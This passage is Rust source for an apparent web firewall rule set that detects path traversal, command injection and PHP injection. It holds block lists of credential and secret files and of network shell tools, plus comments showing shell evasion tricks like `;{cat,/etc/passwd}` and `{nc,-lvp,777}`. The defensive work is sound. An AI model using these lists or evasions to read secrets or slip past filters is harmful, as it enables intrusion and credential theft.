//! The small rule sets: path traversal / local file inclusion, remote command execution and PHP
//! injection. Each rule is a byte scan over the canonical, lower-cased value (one Aho-Corasick
//! pass finds the candidate words; the checks around a hit are plain code).

use aho_corasick::{AhoCorasick, MatchKind};

/// Files and folders an application never names in a parameter unless it is being attacked.
const SENSITIVE_FILES: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/group",
    "etc/gshadow",
    "etc/hosts",
    "etc/hostname",
    "etc/issue",
    "etc/subuid",
    "etc/subgid",
    "etc/sudoers",
    "etc/crontab",
    "etc/fstab",
    "etc/motd",
    "etc/profile",
    "etc/environment",
    "etc/resolv.conf",
    "etc/master.passwd",
    "etc/security/",
    "etc/ssh/",
    "etc/mysql/",
    "etc/nginx/",
    "etc/apache2/",
    "etc/httpd/",
    "etc/php",
    "etc/os-release",
    "etc/lsb-release",
    "etc/redhat-release",
    "etc/pam.d",
    "etc/init.d",
    "etc/network",
    "etc/shells",
    "proc/self/",
    "proc/version",
    "proc/cpuinfo",
    "proc/meminfo",
    "proc/mounts",
    "proc/net/",
    "proc/interrupts",
    "proc/sched_debug",
    "proc/1/",
    "boot.ini",
    "win.ini",
    "system.ini",
    "windows/system32",
    "winnt/system32",
    "system32/config",
    "autoexec.bat",
    ".ssh/",
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    "authorized_keys",
    "known_hosts",
    ".bash_history",
    ".bashrc",
    ".zsh_history",
    ".mysql_history",
    ".psql_history",
    ".htpasswd",
    ".htaccess",
    "web.config",
    "wp-config.php",
    "config.inc.php",
    "localsettings.php",
    ".git/",
    ".gitconfig",
    ".git-credentials",
    ".svn/",
    ".hg/",
    ".env",
    ".aws/",
    ".docker/",
    ".kube/",
    ".npmrc",
    ".pgpass",
    ".netrc",
    "var/log/",
    "var/run/secrets",
    "var/lib/php/sess",
    "usr/local/etc/",
    "php.ini",
    "my.cnf",
    "httpd.conf",
    "nginx.conf",
    "shadow.bak",
    "passwd.bak",
];

/// File names an edge never serves: logs, backups of configs, tool secrets.
const RESTRICTED_PATH_SUFFIXES: &[&str] = &[
    ".log",
    ".bak",
    ".old",
    ".orig",
    ".swp",
    ".sql",
    ".sqlite",
    ".db",
    ".ini",
    ".conf",
    ".cnf",
    ".pem",
    ".key",
    ".htpasswd",
    ".htaccess",
    "~",
];

/// Unix and Windows commands that are rarely prose; matched after a shell separator or at the
/// start of a value with shell-like arguments.
const STRONG_COMMANDS: &[&str] = &[
    "wget",
    "curl",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "chmod",
    "chown",
    "chgrp",
    "nslookup",
    "passwd",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "node",
    "nmap",
    "telnet",
    "useradd",
    "adduser",
    "usermod",
    "userdel",
    "groupadd",
    "crontab",
    "sudo",
    "su",
    "systemctl",
    "pkill",
    "killall",
    "nohup",
    "base64",
    "xxd",
    "mkfifo",
    "mknod",
    "tftp",
    "ftp",
    "scp",
    "ssh",
    "rsync",
    "gcc",
    "cc",
    "chattr",
    "chroot",
    "lsof",
    "strace",
    "netstat",
    "ss",
    "iptables",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "certutil",
    "bitsadmin",
    "wmic",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "net",
    "reg",
    "schtasks",
    "tasklist",
    "taskkill",
    "systeminfo",
    "iex",
    "iwr",
    "vssadmin",
    "icacls",
    "sh",
    "rm",
    "cat",
    "ls",
    "id",
    "ps",
    "env",
    "vi",
    "vim",
    "awk",
    "gawk",
    "sed",
    "dd",
    "xargs",
    "tac",
    "rev",
    "od",
    "strings",
    "hexdump",
    "printenv",
    "sleep",
    "ping",
    "echo",
    "printf",
    "touch",
    "mkdir",
    "cp",
    "mv",
    "find",
    "grep",
    "egrep",
    "head",
    "tail",
    "more",
    "less",
    "nl",
    "sort",
    "uniq",
    "tee",
    "kill",
    "ls",
    "dir",
    "type",
    "wc",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "openssl",
    "eval",
    "exec",
    "export",
    "time",
    "timeout",
    "watch",
    "host",
    "dig",
    "who",
    "w",
    "last",
    "uptime",
    "df",
    "du",
    "mount",
    "file",
    "stat",
    "set",
    "sysctl",
    "ln",
    "locate",
    "which",
    "whereis",
    "hostname",
    "diff",
    "cut",
    "tr",
    "java",
    "jar",
    "npm",
    "pip",
    "gem",
    "git",
    "svn",
    "docker",
    "kubectl",
    "vuln",
    "ex",
    "view",
    "busybox",
    "nice",
    "rpm",
    "apt",
    "apt-get",
    "yum",
    "dnf",
    "pip3",
    "shutdown",
    "reboot",
    "halt",
    "init",
    "service",
    "sc",
    "at",
    "fc",
    "pushd",
    "popd",
    "del",
    "copy",
    "move",
    "ren",
    "start",
    "call",
    "for",
    "ver",
    "whoami.exe",
    "ipconfig.exe",
];

/// Commands that are also everyday English words: they count only with a shell-looking
/// argument after them or as the whole remainder of a separator (`;id`).
const WEAK_COMMANDS: &[&str] = &[
    "cat", "ls", "id", "ps", "env", "vi", "sleep", "ping", "echo", "touch", "find", "head", "tail",
    "more", "less", "sort", "tee", "kill", "dir", "type", "time", "watch", "host", "who", "w",
    "last", "file", "stat", "set", "which", "cut", "tr", "view", "nice", "at", "start", "call",
    "for", "copy", "move", "del", "ren", "init", "service", "net", "reg", "ex", "sc", "fc", "dig",
    "df", "du", "ln", "wc", "nl", "cp", "mv", "rm", "su", "ss", "cc", "sh", "od", "rev", "tac",
    "ver", "apt", "eval", "exec", "export", "diff", "printf", "mkdir", "uptime", "mount", "locate",
    "whereis", "hostname", "timeout", "uniq", "tar", "zip", "node", "ruby", "java", "jar", "git",
    "make", "sed", "awk", "grep", "dd", "jobs", "shutdown",
];

/// PowerShell and Windows forms that mean command execution anywhere.
const WINDOWS_MARKERS: &[&str] = &[
    "invoke-webrequest",
    "invoke-expression",
    "invoke-restmethod",
    "invoke-command",
    "invoke-item",
    "new-object",
    "start-process",
    "set-executionpolicy",
    "downloadstring",
    "downloadfile",
    "net.webclient",
    "-encodedcommand",
    "%comspec%",
    "%systemroot%",
    "%systemdrive%",
    "%windir%",
    "cmd.exe",
    "cmd /c",
    "cmd/c",
    "powershell",
    "system.diagnostics.process",
];

/// PHP functions that run code, commands, files or decoders: a call to one of them is an
/// injection attempt.
const PHP_FUNCTIONS: &[&str] = &[
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "eval",
    "assert",
    "create_function",
    "call_user_func",
    "call_user_func_array",
    "preg_replace",
    "base64_decode",
    "gzinflate",
    "gzuncompress",
    "gzdecode",
    "str_rot13",
    "convert_uudecode",
    "file_get_contents",
    "file_put_contents",
    "fopen",
    "fwrite",
    "fputs",
    "fsockopen",
    "pfsockopen",
    "readfile",
    "include",
    "include_once",
    "require",
    "require_once",
    "unserialize",
    "phpinfo",
    "print_r",
    "var_dump",
    "var_export",
    "get_defined_vars",
    "get_defined_functions",
    "move_uploaded_file",
    "highlight_file",
    "show_source",
    "array_map",
    "array_filter",
    "array_walk",
    "usort",
    "uasort",
    "uksort",
    "ob_start",
    "putenv",
    "ini_set",
    "ini_get",
    "ini_restore",
    "dl",
    "symlink",
    "link",
    "chmod",
    "unlink",
    "rmdir",
    "mkdir",
    "copy",
    "rename",
    "file",
    "filegroup",
    "fileowner",
    "fileperms",
    "glob",
    "scandir",
    "opendir",
    "readdir",
    "posix_getpwuid",
    "posix_uname",
    "getenv",
    "get_current_user",
    "getcwd",
    "php_uname",
    "phpversion",
    "escapeshellcmd",
    "escapeshellarg",
    "curl_exec",
    "curl_init",
    "parse_str",
    "extract",
    "mb_ereg_replace",
    "register_shutdown_function",
    "register_tick_function",
    "set_error_handler",
    "set_exception_handler",
    "iterator_apply",
    "forward_static_call",
    "func_get_args",
    "constant",
    "define",
    "md5",
    "sha1",
    "crc32",
    "strrev",
    "str_replace",
    "substr",
    "implode",
    "explode",
    "serialize",
    "printf",
    "sprintf",
    "vsprintf",
    "echo",
    "print",
    "die",
    "is_array",
    "is_file",
    "is_dir",
    "is_readable",
    "is_writable",
    "file_exists",
    "array_merge",
    "count",
    "chr",
    "ord",
    "hex2bin",
    "bin2hex",
    "urldecode",
    "rawurldecode",
    "strtolower",
    "strtoupper",
    "trim",
    "fread",
    "fgets",
    "fclose",
    "hash",
    "uniqid",
    "mt_rand",
    "rand",
    "session_start",
    "header",
    "setcookie",
    "mail",
    "audiofile",
    "simplexml_load_string",
    "json_decode",
    "preg_match",
    "preg_split",
    "stream_get_contents",
];

/// PHP words that are also English: they count only when called with code-looking arguments.
const PHP_WEAK: &[&str] = &[
    "system",
    "exec",
    "eval",
    "assert",
    "include",
    "require",
    "file",
    "copy",
    "rename",
    "link",
    "print",
    "echo",
    "die",
    "define",
    "constant",
    "count",
    "header",
    "mail",
    "hash",
    "extract",
    "trim",
    "glob",
    "chr",
    "ord",
    "rand",
    "md5",
    "sha1",
    "substr",
    "printf",
    "explode",
    "crc32",
    "serialize",
    "implode",
    "mkdir",
    "rmdir",
    "chmod",
    "dl",
    "popen",
    "fopen",
    "fread",
    "fgets",
    "fclose",
    "sprintf",
    "readfile",
    "audiofile",
];

const PHP_MARKERS: &[&str] = &[
    "$_get",
    "$_post",
    "$_request",
    "$_cookie",
    "$_server",
    "$_files",
    "$_env",
    "$_session",
    "$globals",
    "$http_raw_post_data",
    "$http_",
    "allow_url_include",
    "allow_url_fopen",
    "auto_prepend_file",
    "auto_append_file",
    "disable_functions",
    "open_basedir",
    "safe_mode",
    "extension_dir",
    "session.referer_check",
    "session.save_path",
    "mbstring.regex_stack_limit",
    "unserialize_max_depth",
    "pcre.backtrack_limit",
    "error_log=",
    "include_path=",
    "display_errors=",
];

const PHP_WRAPPERS: &[&str] = &[
    "php://",
    "phar://",
    "zip://",
    "zlib://",
    "glob://",
    "expect://",
    "data://",
    "rar://",
    "ogg://",
    "compress.zlib://",
    "compress.bzip2://",
    "ssh2.shell://",
    "ssh2.exec://",
    "ssh2.tunnel://",
    "ssh2.sftp://",
    "ssh2.scp://",
];

fn build(pats: &[&str]) -> AhoCorasick {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::Standard)
        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
        .build(pats)
        .expect("static patterns build")
}

pub(crate) struct Rules {
    sensitive: AhoCorasick,
    windows: AhoCorasick,
    php_functions: AhoCorasick,
    php_markers: AhoCorasick,
    php_wrappers: AhoCorasick,
}

fn is_word(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

impl Rules {
    pub(crate) fn new() -> Self {
        Rules {
            sensitive: build(SENSITIVE_FILES),
            windows: build(WINDOWS_MARKERS),
            php_functions: build(PHP_FUNCTIONS),
            php_markers: build(PHP_MARKERS),
            php_wrappers: build(PHP_WRAPPERS),
        }
    }

    /// Path traversal and file inclusion in a value. `s` is canonical, lower-cased.
    pub(crate) fn lfi(&self, s: &[u8], tmp: &mut Vec<u8>) -> Option<&'static str> {
        // Fold `\` to `/` and the `0x2e`/`0x2f`/`0x5c` spellings some parsers accept.
        tmp.clear();
        let mut i = 0;
        while i < s.len() {
            if s[i] == b'0' && i + 3 < s.len() && s[i + 1] == b'x' {
                match &s[i + 2..i + 4] {
                    b"2e" => {
                        tmp.push(b'.');
                        i += 4;
                        continue;
                    }
                    b"2f" | b"5c" => {
                        tmp.push(b'/');
                        i += 4;
                        continue;
                    }
                    _ => {}
                }
            }
            tmp.push(if s[i] == b'\\' { b'/' } else { s[i] });
            i += 1;
        }
        let t = &tmp[..];
        let f = memchr::memmem::find;
        if traversal(t) {
            return Some("lfi-traversal");
        }
        if f(t, b"file://").is_some() || f(t, b"file:/").is_some_and(|p| p == 0) {
            return Some("lfi-file-scheme");
        }
        for m in self.sensitive.find_iter(t) {
            let before = m.start().checked_sub(1).map(|i| t[i]);
            let after = t.get(m.end()).copied();
            let pat = SENSITIVE_FILES[m.pattern().as_usize()].as_bytes();
            let start_ok =
                before.is_none_or(|c| !is_word(c) && c != b'.' && c != b'-') || pat[0] == b'.';
            let end_ok = pat.ends_with(b"/")
                || after.is_none_or(|c| !is_word(c) && c != b'-' || pat == b"var/lib/php/sess");
            // `.env` only as a path part, not in `.environment` or `my.envelope`.
            if start_ok
                && end_ok
                && (pat[0] != b'.'
                    || before.is_none_or(|c| c == b'/' || c == b'=' || c == b' ' || c == b'~'))
            {
                return Some("lfi-sensitive-file");
            }
        }
        None
    }

    /// Restricted files in the request path itself: hidden files and folders (but
    /// `/.well-known/`), OS files, logs and backups.
    pub(crate) fn lfi_path(&self, path: &[u8], tmp: &mut Vec<u8>) -> Option<&'static str> {
        if let Some(r) = self.lfi(path, tmp) {
            return Some(r);
        }
        for seg in path.split(|&c| c == b'/') {
            if seg.len() > 1 && seg[0] == b'.' && seg != b".well-known" && seg != b".." {
                return Some("lfi-hidden-path");
            }
        }
        let last = path.rsplit(|&c| c == b'/').next().unwrap_or(b"");
        for suf in RESTRICTED_PATH_SUFFIXES {
            if last.len() > suf.len() && last.ends_with(suf.as_bytes()) {
                return Some("lfi-restricted-file");
            }
        }
        if path.starts_with(b"/proc/")
            || path.starts_with(b"/etc/")
            || memchr::memmem::find(path, b"/proc/").is_some()
        {
            return Some("lfi-sensitive-file");
        }
        None
    }

    /// Remote command execution. `s` is canonical, lower-cased.
    pub(crate) fn rce(&self, s: &[u8], tmp: &mut Vec<u8>) -> Option<&'static str> {
        let f = memchr::memmem::find;
        // Shellshock.
        if f(s, b"() {").is_some() || f(s, b"(){").is_some() {
            return Some("rce-shellshock");
        }
        for m in self.windows.find_iter(s) {
            let before = m.start().checked_sub(1).map(|i| s[i]);
            if before.is_none_or(|c| !is_word(c)) {
                return Some("rce-windows");
            }
        }
        // Undo the quoting tricks shells ignore: c\at, c''at, c""at, ca$@t, $u, ${x}.
        tmp.clear();
        let mut i = 0;
        while i < s.len() {
            let c = s[i];
            if c == b'\\'
                && s.get(i + 1)
                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/')
            {
                i += 1;
                continue;
            }
            if (c == b'\'' || c == b'"')
                && s.get(i + 1) == Some(&c)
                && i > 0
                && s[i - 1].is_ascii_alphanumeric()
            {
                i += 2;
                continue;
            }
            if c == b'$' && i > 0 && is_word(s[i - 1]) {
                // Special parameters expand to nothing in a word: ca$@t, c$!at, c$-at.
                if matches!(
                    s.get(i + 1),
                    Some(b'@' | b'*' | b'#' | b'?' | b'!' | b'$' | b'-' | b'0'..=b'9')
                ) {
                    i += 2;
                    continue;
                }
                // Unset short variables glued to a word: cat$u, /etc$u/passwd, ${x}.
                let mut j = i + 1;
                if s.get(j) == Some(&b'{') {
                    if let Some(q) = memchr::memchr(b'}', &s[j..]).filter(|&q| q <= 12) {
                        i = j + q + 1;
                        continue;
                    }
                } else {
                    while j < s.len() && j < i + 4 && s[j].is_ascii_alphabetic() {
                        j += 1;
                    }
                    if j > i + 1 && s.get(j).is_none_or(|&c| !is_word(c)) {
                        i = j;
                        continue;
                    }
                }
            }
            tmp.push(c);
            i += 1;
        }
        let t = &tmp[..];
        for v in [
            &b"${ifs"[..],
            b"$ifs",
            b"$shell",
            b"${shell}",
            b"${path:",
            b"$bash_",
        ] {
            if f(t, v).is_some() {
                return Some("rce-shell-variable");
            }
        }
        if let Some(r) = batch(t) {
            return Some(r);
        }
        if let Some(r) = mail_protocol(t) {
            return Some(r);
        }
        // Absolute paths to binaries: /bin/sh, /usr/bin/id, with globs: /bin/ca?
        for dir in [
            &b"/bin/"[..],
            b"/sbin/",
            b"/usr/bin/",
            b"/usr/sbin/",
            b"/usr/local/bin/",
        ] {
            if let Some(p) = f(t, dir) {
                let after = &t[p + dir.len()..];
                let before = p.checked_sub(1).map(|i| t[i]);
                if after.first().is_some_and(|c| {
                    c.is_ascii_alphanumeric() || *c == b'?' || *c == b'*' || *c == b'['
                }) && before.is_none_or(|c| !is_word(c) && c != b'.')
                {
                    return Some("rce-binary-path");
                }
            }
        }
        // Command substitution: $( ... ) and `...`.
        if let Some(p) = f(t, b"$(") {
            let inner = &t[p + 2..];
            if inner
                .first()
                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'/' || *c == b'(')
                && memchr::memchr(b')', inner).is_some()
            {
                return Some("rce-substitution");
            }
        }
        if let Some(p) = memchr::memchr(b'`', t) {
            if let Some(q) = memchr::memchr(b'`', &t[p + 1..]) {
                let inner = t[p + 1..p + 1 + q].trim_ascii();
                if self.command_at(inner, true).is_some() {
                    return Some("rce-substitution");
                }
            }
        }
        // A command after a shell separator, or a command line that is the whole value.
        let mut at = 0;
        // The whole value as a command line: quotes and brace expansion around it do not
        // matter to a shell (`'time' sh -c id`, `{nc,-lvp,777}`).
        let start = {
            let mut k = 0;
            while k < t.len() && matches!(t[k], b'\'' | b'"' | b' ' | b'\t') {
                k += 1;
            }
            &t[k..]
        };
        if let Some(inner) = start.strip_prefix(b"{") {
            if self.command_at(inner, true).is_some() && memchr::memchr(b',', inner).is_some() {
                return Some("rce-command");
            }
        }
        if self.command_at(start, false) == Some(true) || self.prefixed_command(start) {
            return Some("rce-command");
        }
        if let Some(rest) = start
            .strip_prefix(b"bin/")
            .or_else(|| start.strip_prefix(b"sbin/"))
        {
            if rest.first().is_some_and(|c| c.is_ascii_alphabetic()) {
                return Some("rce-binary-path");
            }
        }
        while at < t.len() {
            let c = t[at];
            let sep_len = match c {
                b';' | b'\n' | b'`' => 1,
                b'|' | b'&' => {
                    if t.get(at + 1) == Some(&c) {
                        2
                    } else {
                        1
                    }
                }
                b'$' if t.get(at + 1) == Some(&b'(') => 2,
                b'>' | b'<' if t.get(at + 1) == Some(&b'(') => 2,
                _ => 0,
            };
            if sep_len > 0 {
                let rest = t[at + sep_len..].trim_ascii_start();
                // Tolerate a leading `.`/`{`/`(`/`!`/`-` grouping: `;{cat,/etc/passwd}`.
                let rest = rest
                    .strip_prefix(b"{")
                    .or_else(|| rest.strip_prefix(b"("))
                    .or_else(|| rest.strip_prefix(b". "))
                    .unwrap_or(rest);
                if self.command_at(rest, true).is_some() {
                    return Some("rce-command");
                }
                at += sep_len;
            } else {
                at += 1;
            }
        }
        None
    }

    /// Whether `s` starts with a command. With `after_sep`, a strong command counts as it is and
    /// a weak one with a shell-looking argument or nothing after it; without, only a command
    /// with a shell-looking argument counts (returned as `Some(true)`).
    fn command_at(&self, s: &[u8], after_sep: bool) -> Option<bool> {
        let mut end = 0;
        while end < s.len()
            && (s[end].is_ascii_alphanumeric()
                || matches!(s[end], b'-' | b'_' | b'.' | b'?' | b'*' | b'[' | b']'))
        {
            end += 1;
        }
        if end == 0 {
            return None;
        }
        let mut word = &s[..end];
        // A path prefix: ./x, ~/x are handled by the caller; strip trailing dots.
        while word.last() == Some(&b'.') {
            word = &word[..word.len() - 1];
        }
        let known =
            STRONG_COMMANDS.iter().any(|c| c.as_bytes() == word) || glob_matches_command(word);
        if !known {
            return None;
        }
        let weak = WEAK_COMMANDS.iter().any(|c| c.as_bytes() == word);
        let rest = &s[end..];
        let arg = rest.trim_ascii_start();
        let spaced = rest.len() != arg.len() || rest.first().is_some_and(|&c| c == b'\t');
        let shell_arg = arg.first().is_some_and(|&c| {
            matches!(
                c,
                b'-' | b'/'
                    | b'$'
                    | b'~'
                    | b'.'
                    | b'>'
                    | b'<'
                    | b'|'
                    | b';'
                    | b'&'
                    | b'`'
                    | b'\''
                    | b'"'
                    | b'*'
                    | b'{'
                    | b'+'
                    | b'%'
                    | b'\\'
            )
        }) || memchr::memchr(b'/', arg)
            .is_some_and(|p| p < 32 && !arg[..p].contains(&b' '))
            || (!arg.is_empty() && memchr::memchr3(b';', b'|', b'&', arg).is_some());
        if after_sep {
            if arg.is_empty() {
                return Some(false);
            }
            if !spaced
                && !rest.is_empty()
                && !matches!(
                    rest[0],
                    b';' | b'|' | b'&' | b'<' | b'>' | b'}' | b')' | b','
                )
            {
                return None;
            }
            if !weak || shell_arg {
                return Some(false);
            }
            // `;cat passwd`: a weak word followed by one plain word and nothing else.
            return None;
        }
        if spaced && shell_arg && !weak {
            return Some(true);
        }
        None
    }

    /// `time sh -c id`, `nohup who`, `strace id`: a command runner followed by a command.
    fn prefixed_command(&self, s: &[u8]) -> bool {
        const RUNNERS: &[&[u8]] = &[
            b"time",
            b"nohup",
            b"strace",
            b"ltrace",
            b"nice",
            b"sudo",
            b"doas",
            b"env",
            b"timeout",
            b"xargs",
            b"exec",
            b"command",
            b"builtin",
            b"stdbuf",
            b"chroot",
            b"busybox",
            b"watch",
            b"unbuffer",
            b"setsid",
            b"taskset",
            b"ionice",
            b"su",
        ];
        let end = s
            .iter()
            .position(|c| !c.is_ascii_alphanumeric())
            .unwrap_or(s.len());
        if end == 0 || !RUNNERS.contains(&&s[..end]) {
            return false;
        }
        let rest = &s[end..];
        let arg = rest.trim_ascii_start();
        if arg.len() == rest.len() {
            return false;
        }
        let arg = arg.strip_prefix(b"-").map_or(arg, |a| {
            // Skip one option (`timeout -s 9`, `nice -n 5`).
            let e = a.iter().position(|&c| c == b' ').unwrap_or(a.len());
            a[e..].trim_ascii_start()
        });
        let w = arg
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_' || *c == b'-' || *c == b'.'))
            .unwrap_or(arg.len());
        w > 0
            && (STRONG_COMMANDS.iter().any(|c| c.as_bytes() == &arg[..w]) || arg.starts_with(b"/"))
    }

    /// PHP injection. `s` is canonical, lower-cased.
    pub(crate) fn php(&self, s: &[u8]) -> Option<&'static str> {
        let f = memchr::memmem::find;
        // Opening tags: `<?php`, `<?=`, `<?` + blank (not `<?xml`), `[php]`, `{php}`.
        let mut from = 0;
        while let Some(p) = f(&s[from..], b"<?") {
            let at = from + p + 2;
            from = at;
            let rest = &s[at..];
            if rest.is_empty()
                || rest.starts_with(b"php")
                || rest[0] == b'='
                || rest[0].is_ascii_whitespace()
            {
                // `<? xml`-free: a blank after `<?` then `xml` is still XML.
                let r = rest.trim_ascii_start();
                if !r.starts_with(b"xml") || rest.starts_with(b"php") || rest.is_empty() {
                    return Some("php-open-tag");
                }
                if r.starts_with(b"xml") && memchr::memchr(b';', r).is_some() {
                    return Some("php-open-tag");
                }
            }
            if rest.starts_with(b"xml") && !rest.starts_with(b"xml-") {
                let after = rest[3..].trim_ascii_start();
                if after.first().is_some_and(|&c| c == b':' || c == b'(') {
                    return Some("php-open-tag");
                }
            }
        }
        if f(s, b"[php]").is_some()
            || f(s, b"{php}").is_some()
            || f(s, b"[/php]").is_some()
            || f(s, b"{/php}").is_some()
        {
            return Some("php-open-tag");
        }
        for m in self.php_markers.find_iter(s) {
            let pat = PHP_MARKERS[m.pattern().as_usize()].as_bytes();
            let before = m.start().checked_sub(1).map(|i| s[i]);
            if pat[0] == b'$' || before.is_none_or(|c| !is_word(c)) {
                let after = s.get(m.end()).copied();
                if pat[0] == b'$' || pat.ends_with(b"=") || after.is_none_or(|c| !is_word(c)) {
                    // Config directives count when set: `allow_url_include=1`.
                    if pat[0] == b'$'
                        || pat.ends_with(b"=")
                        || s[m.end()..].trim_ascii_start().first() == Some(&b'=')
                    {
                        return Some("php-variable-or-directive");
                    }
                }
            }
        }
        for m in self.php_wrappers.find_iter(s) {
            let before = m.start().checked_sub(1).map(|i| s[i]);
            if before.is_none_or(|c| !is_word(c) && c != b'.') {
                return Some("php-wrapper");
            }
        }
        // Serialized objects: O:8:"stdClass":..., C:..., a:2:{...
        for (i, w) in s.windows(2).enumerate() {
            if (w[0] == b'o' || w[0] == b'c') && w[1] == b':' && (i == 0 || !is_word(s[i - 1])) {
                let rest = &s[i + 2..];
                let digits = rest.iter().take_while(|c| c.is_ascii_digit()).count();
                if digits > 0 && rest[digits..].starts_with(b":\"") {
                    return Some("php-serialized-object");
                }
            }
        }
        // Calls: name ( ... with comments or blanks in between.
        for m in self.php_functions.find_iter(s) {
            let before = m.start().checked_sub(1).map(|i| s[i]);
            let after_name = s.get(m.end()).copied();
            if before.is_some_and(|c| {
                is_word(c) || c == b'-' || c == b'.' && !s[..m.start()].ends_with(b"'.")
            }) || after_name.is_some_and(is_word)
            {
                continue;
            }
            let name = PHP_FUNCTIONS[m.pattern().as_usize()].as_bytes();
            let mut j = m.end();
            let mut gap = false;
            loop {
                while j < s.len() && s[j].is_ascii_whitespace() {
                    j += 1;
                    gap = true;
                }
                if s[j..].starts_with(b"/*") {
                    match f(&s[j + 2..], b"*/") {
                        Some(p) => {
                            j += p + 4;
                            gap = true;
                            continue;
                        }
                        None => break,
                    }
                }
                if s[j..].starts_with(b"#") || s[j..].starts_with(b"//") {
                    match memchr::memchr(b'\n', &s[j..]) {
                        Some(p) => {
                            j += p + 1;
                            gap = true;
                            continue;
                        }
                        None => break,
                    }
                }
                // `"system"(`, `(system)(`
                if j < s.len()
                    && matches!(s[j], b'"' | b'\'' | b')')
                    && before.is_some_and(|c| c == b'"' || c == b'\'' || c == b'(')
                {
                    j += 1;
                    continue;
                }
                break;
            }
            if s.get(j) != Some(&b'(') {
                continue;
            }
            let args = s[j + 1..].trim_ascii_start();
            let weak = PHP_WEAK.iter().any(|w| w.as_bytes() == name);
            let code_args = args
                .first()
                .is_some_and(|&c| matches!(c, b'$' | b'"' | b'\'' | b')' | b'(' | b'_'))
                || args.iter().take(40).any(|&c| c == b'$' || c == b';');
            if !weak || code_args || (!gap && memchr::memchr(b')', args).is_some()) {
                // A plain English word with a gap before a parenthesis (`exec (`) needs more.
                if weak && gap && !code_args {
                    continue;
                }
                return Some("php-function-call");
            }
        }
        // Variable functions: $a(...), ${...}(...), $a[..](...), $_[..]{..}(...).
        let mut from = 0;
        while let Some(p) = memchr::memchr(b'$', &s[from..]) {
            let at = from + p;
            from = at + 1;
            let mut j = at + 1;
            let start = j;
            if s.get(j) == Some(&b'{') {
                match memchr::memchr(b'}', &s[j..]) {
                    Some(q) => j += q + 1,
                    None => continue,
                }
            } else {
                while j < s.len() && is_word(s[j]) {
                    j += 1;
                }
                if j == start || s[start].is_ascii_digit() {
                    continue;
                }
            }
            // Subscripts, property arrows and comments between the name and the call.
            loop {
                let k = j;
                while j < s.len() && s[j].is_ascii_whitespace() {
                    j += 1;
                }
                match s.get(j) {
                    Some(b'[') | Some(b'{') => {
                        let close = if s[j] == b'[' { b']' } else { b'}' };
                        match memchr::memchr(close, &s[j..]) {
                            Some(q) if q > 1 => j += q + 1,
                            _ => break,
                        }
                    }
                    Some(b'/') if s.get(j + 1) == Some(&b'*') => match f(&s[j + 2..], b"*/") {
                        Some(q) => j += q + 4,
                        None => break,
                    },
                    Some(b'/') if s.get(j + 1) == Some(&b'/') => {
                        match memchr::memchr(b'\n', &s[j..]) {
                            Some(q) => j += q + 1,
                            None => break,
                        }
                    }
                    Some(b'-') if s.get(j + 1) == Some(&b'>') => {
                        j += 2;
                        if s.get(j) == Some(&b'$') {
                            j += 1;
                        }
                        while j < s.len() && is_word(s[j]) {
                            j += 1;
                        }
                    }
                    _ => {}
                }
                if j == k {
                    break;
                }
            }
            if s.get(j) == Some(&b'(') {
                return Some("php-variable-function");
            }
        }
        // `(system)(ls)`, `("system")("id")`, `[system][0](ls)`.
        let mut from = 0;
        while let Some(p) = f(&s[from..], b")(") {
            let at = from + p;
            from = at + 2;
            let open = s[..at].iter().rposition(|&c| c == b'(');
            if let Some(o) = open {
                let inner = s[o + 1..at].trim_ascii();
                let strip = |c: &u8| *c == b'"' || *c == b'\'' || c.is_ascii_whitespace();
                let a = inner.iter().position(|c| !strip(c)).unwrap_or(inner.len());
                let b = inner.iter().rposition(|c| !strip(c)).map_or(a, |p| p + 1);
                let inner = &inner[a..b.max(a)];
                if !inner.is_empty()
                    && inner.iter().all(|&c| is_word(c))
                    && self
                        .php_functions
                        .find(inner)
                        .is_some_and(|m| m.start() == 0 && m.end() == inner.len())
                {
                    return Some("php-function-call");
                }
            }
        }
        None
    }

    /// A file name that would be run by PHP (`x.php`, `x.phtml`, `x.php5.`, `x.phar`) or that
    /// names a PHP session file.
    pub(crate) fn php_filename(name: &[u8]) -> Option<&'static str> {
        let n = name.trim_ascii();
        let n = {
            let mut e = n.len();
            while e > 0 && (n[e - 1] == b'.' || n[e - 1] == b' ') {
                e -= 1;
            }
            &n[..e]
        };
        let base = n.rsplit(|&c| c == b'/' || c == b'\\').next().unwrap_or(n);
        if let Some(dot) = base.iter().rposition(|&c| c == b'.') {
            let ext = base[dot + 1..].trim_ascii();
            if matches!(
                ext,
                b"php"
                    | b"phtml"
                    | b"pht"
                    | b"phps"
                    | b"phar"
                    | b"phpt"
                    | b"php3"
                    | b"php4"
                    | b"php5"
                    | b"php7"
                    | b"php8"
                    | b"inc"
                    | b"shtml"
            ) {
                return Some("php-file-upload");
            }
        }
        if base.starts_with(b"sess_")
            && base.len() > 20
            && base[5..]
                .iter()
                .all(|c| c.is_ascii_alphanumeric() || *c == b'-' || *c == b',')
        {
            return Some("php-session-file");
        }
        None
    }
}

/// Windows batch control flow: `for [/d|/r|/l|/f ...] %x in (...) do ...` and
/// `if [/i] [not] exist|defined|errorlevel ...` or `if a==b cmd`.
fn batch(t: &[u8]) -> Option<&'static str> {
    let words = |s: &[u8]| -> bool {
        s.first().is_some_and(|c| {
            c.is_ascii_whitespace()
                || *c == b'/'
                || *c == b'('
                || *c == b'"'
                || *c == b'['
                || *c == b'%'
        })
    };
    let mut from = 0;
    while from < t.len() {
        let seg = &t[from..];
        let at_boundary = from == 0 || !is_word(t[from - 1]);
        if at_boundary && seg.starts_with(b"for") && words(&seg[3..]) {
